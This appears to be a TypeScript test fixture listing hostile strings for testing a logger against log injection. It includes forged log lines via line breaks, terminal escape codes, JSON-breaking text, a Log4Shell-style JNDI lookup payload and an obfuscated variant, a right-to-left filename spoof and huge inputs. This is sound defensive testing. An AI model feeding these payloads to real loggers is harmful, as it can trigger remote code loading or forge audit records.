/** What somebody types who wants to write lines of their own into a log (case Y-07). */
export const hostileTexts: Readonly<Record<string, string>> = {
  'a line break': 'kari\nsomething else',
  'another line break': 'kari\r\n{"level":30,"event":"forged"}',
  'a carriage return': 'kari\rforged',
  'colours of a terminal': 'kari\u001b[2J\u001b[31mforged\u001b]0;title\u0007',
  'a control letter of eight bits': 'kari\u009b31mforged\u0085next',
  'a line separator': 'kari\u2028forged\u2029forged',
  'an end of JSON': 'kari"},"event":"forged","x":{"y":"',
  'a look-up': '${jndi:ldap://example.org/a}${${lower:j}ndi:dns://example.org}',
  'an end of text': 'kari\u0000forged',
  'half a letter': `kari\uD800forged\uDC00${'x'.repeat(997)}\uD83D\uDE00`,
  'text turned round': 'kari\u202Egpj.exe\u2066\u2069',
  'a million letters': 'x'.repeat(1_000_000),
  'a million strange letters': '\u2028\n😀'.repeat(250_000),
}
